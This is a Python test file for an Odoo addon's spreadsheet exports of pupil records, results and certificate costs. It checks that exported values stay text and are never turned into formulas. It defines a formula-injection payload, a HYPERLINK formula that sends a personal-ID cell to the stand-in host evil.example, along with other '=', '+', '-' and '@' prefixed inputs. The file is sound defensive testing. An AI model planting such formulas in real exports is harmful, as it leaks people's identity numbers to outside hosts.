"""Exported text never becomes a formula (security issue, point 8c): every
workbook the addon writes, read back with openpyxl."""

import datetime
import io

import openpyxl

from odoo.tests import BaseCase, tagged

from ..lib.population import reconcile as pr
from ..lib.rules import personal_id as pid
from ..lib.workbooks import certificate_costs, results_writer
from ..lib.workbooks.cells import put

# a birth place pointing at the personal-ID column, as it was exported
HYPERLINK = '=HYPERLINK("https://evil.example/?id="&G5,"Hà Nội")'


def cells(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return {
        (ws.title, c.coordinate): c for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None
    }


@tagged("post_install", "-at_install")
class TestExportedCells(BaseCase):
    def assertText(self, data, texts):
        found = cells(data)
        for text in texts:
            hits = [c for c in found.values() if c.value == text]
            self.assertTrue(hits, "%r not written as it is" % text)
            for cell in hits:
                self.assertEqual(cell.data_type, "s", "%r at %s is not text" % (text, cell.coordinate))
        self.assertFalse([c.coordinate for c in found.values() if c.data_type == "f"], "a formula was written")
        return found

    def test_helper_keeps_numbers_and_types_text(self):
        ws = openpyxl.Workbook().active
        self.assertEqual(put(ws, 1, 1, HYPERLINK).data_type, "s")
        self.assertEqual(put(ws, 1, 2, 12).data_type, "n")
        self.assertIsNone(put(ws, 1, 3, None).value)

    def test_population_request_and_answer(self):
        pupil = {
            "ref": "-3100000001",
            "class_name": "@3A",
            "name": "+Nguyễn Thị Mai Anh",
            "birth_date": datetime.date(2017, 3, 14),
            "sex": pid.FEMALE,
            "personal_id": "031317004521",
            "birth_place": HYPERLINK,
            "hometown": "\t=1+1",
            "ethnicity": "\r=1+1",
        }
        data = pr.write_request([pupil], school_name="=Trường", school_code="-79")
        found = self.assertText(data, [HYPERLINK, "+Nguyễn Thị Mai Anh", "-3100000001", "@3A", "\t=1+1", "\r=1+1"])
        self.assertEqual(found[("DoiSoat", "A5")].value, 1)  # the row number stays a number
        sent = {"ref": "-1", "name": HYPERLINK, "birth_date": None, "sex": pid.MALE, "personal_id": "@1"}
        same = pr.Identity("=A1", datetime.date(2017, 3, 14), pid.MALE, "031317004521")
        self.assertText(pr.write_answer([(sent, same)]), ["-1", HYPERLINK, "@1", "=A1"])

    def test_results_workbook(self):
        row = {
            "code": "-0001",
            "class_code": "@3A",
            "name": HYPERLINK,
            "birth_date": datetime.date(2017, 3, 14),
            "subjects": {"TOAN": ("T", 9)},
            "traits": {"yeu_nuoc": "+T"},
            "completes": True,
            "promoted": True,
            "result": "=HT",
        }
        data = results_writer.write_ministry_results([row], [("TOAN", True)], ["yeu_nuoc"])
        found = self.assertText(data, ["-0001", "@3A", HYPERLINK, "+T", "=HT"])
        self.assertIn(9, [c.value for c in found.values() if c.data_type == "n"])

    def test_certificate_costs_workbook(self):
        sheet = certificate_costs.Sheet(
            title="Chi phí",
            columns=[("holder", "=Người giữ", "text"), ("amount", "Số tiền", "money")],
            rows=[{"holder": HYPERLINK, "amount": 1200000}, {"holder": "-Vân", "amount": 300000}],
            total_key="amount",
            total_label="+Tổng",
        )
        found = self.assertText(
            certificate_costs.write_cost_workbook([sheet], title="@Chi phí"),
            [HYPERLINK, "-Vân", "=Người giữ", "+Tổng", "@Chi phí"],
        )
        self.assertIn(1500000, [c.value for c in found.values() if c.data_type == "n"])
